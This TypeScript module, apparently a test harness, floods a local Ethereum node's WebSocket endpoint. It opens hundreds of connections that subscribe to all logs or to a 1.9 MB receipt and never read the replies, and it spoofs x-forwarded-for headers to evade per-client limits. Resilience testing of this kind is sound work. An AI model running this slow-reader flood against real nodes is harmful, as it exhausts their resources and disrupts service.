import { WebSocket } from "ws";

/** Attacks of many subscriptions to the same large blocks. Nobody reads what they send. */
const LOG_SOCKETS = 300;
const LOG_SUBSCRIPTIONS = 5;
const RECEIPT_SOCKETS = 8;
const RECEIPT_SUBSCRIPTIONS = 800;
const PAUSE_MS = 1_000;

/** The transaction that each block of the attacked node has. */
export const IN_EACH_BLOCK = `0x${"77".repeat(32)}`;

const open = (port: number, client: string, count: number, params: readonly unknown[]): void => {
  const socket = new WebSocket(`ws://127.0.0.1:${port}`, { headers: { "x-forwarded-for": client } });
  socket.on("error", () => undefined);
  socket.on("close", () => setTimeout(() => open(port, client, count, params), PAUSE_MS));
  let answered = 0;
  socket.on("message", () => {
    answered++;
    if (answered === count) {
      socket.pause();
    }
  });
  socket.on("open", () => {
    for (let id = 0; id < count; id++) {
      socket.send(JSON.stringify({ jsonrpc: "2.0", id, method: "eth_subscribe", params }));
    }
  });
};

const openAll = (port: number, client: string, sockets: number, count: number, params: readonly unknown[]): void => {
  for (let index = 0; index < sockets; index++) {
    open(port, client, count, params);
  }
};

/** WebSockets with subscriptions to all logs, which read none. */
const logs = (port: number): void => openAll(port, "203.0.113.30", LOG_SOCKETS, LOG_SUBSCRIPTIONS, ["logs"]);

const ofTransaction = { transactionHashes: [IN_EACH_BLOCK] };

/** Subscriptions to one receipt of 1.9 MB. */
const receipts = (port: number): void =>
  openAll(port, "203.0.113.31", RECEIPT_SOCKETS, RECEIPT_SUBSCRIPTIONS, ["transactionReceipts", ofTransaction]);

export const EVENT_ATTACKS = { logs, receipts } as const;
